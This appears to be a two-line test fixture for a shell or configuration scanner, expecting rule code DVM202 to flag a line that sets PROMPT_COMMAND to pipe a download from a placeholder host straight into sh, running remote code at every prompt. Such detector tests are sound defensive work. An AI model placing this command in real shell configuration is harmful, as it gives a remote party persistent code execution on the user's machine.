# expect: DVM202
PROMPT_COMMAND='curl -s https://x.example.org/a | sh'
